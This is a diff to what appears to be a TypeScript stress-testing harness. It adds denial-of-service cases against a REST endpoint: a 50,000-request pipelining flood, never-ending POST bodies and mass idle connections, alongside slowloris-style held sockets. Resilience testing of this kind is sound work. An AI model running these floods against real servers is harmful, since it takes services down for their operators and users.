@@ -67,8 +67,18 @@ const rows = Buffer.from(
 );
 const endlessPattern = '%25a'.repeat(200);
 
+/** Sends many requests ahead without reading their answers. */
+function sendAhead({ url, key }: Target, signal: AbortSignal): Promise<'closed'> {
+  const request = `GET /rest/v1/transactions HTTP/1.1\r\nHost: a\r\napikey: ${key}\r\n\r\n`;
+  return holdOpen({ url }, request.repeat(50_000), signal);
+}
+
 /** Keeps a connection open without ever finishing the request. */
-function holdOpen({ url }: Target, start: string, signal: AbortSignal): Promise<'closed'> {
+function holdOpen(
+  { url }: Pick<Target, 'url'>,
+  start: string,
+  signal: AbortSignal,
+): Promise<'closed'> {
   const { hostname, port } = new URL(url);
   return new Promise((resolve) => {
     const socket = net.connect({ host: hostname, port: Number(port), localAddress: anyAddress() });
@@ -186,5 +196,25 @@ export const attacks: Attack[] = [
     name: 'a header that never ends',
     concurrency: 1000,
     send: (target, signal) => holdOpen(target, 'GET / HTTP/1.1\r\nHost: a\r\nX-A: ', signal),
+  },
+  {
+    name: '50,000 requests ahead',
+    concurrency: 4,
+    send: sendAhead,
+  },
+  {
+    name: '60 KB of a body that never ends',
+    concurrency: 300,
+    send: (target, signal) =>
+      holdOpen(
+        target,
+        `POST /rest/v1/transactions HTTP/1.1\r\nHost: a\r\napikey: ${target.key}\r\nContent-Length: 64000\r\n\r\n${'a'.repeat(60_000)}`,
+        signal,
+      ),
+  },
+  {
+    name: 'an idle connection',
+    concurrency: 700,
+    send: (target, signal) => holdOpen(target, '', signal),
   },
 ];
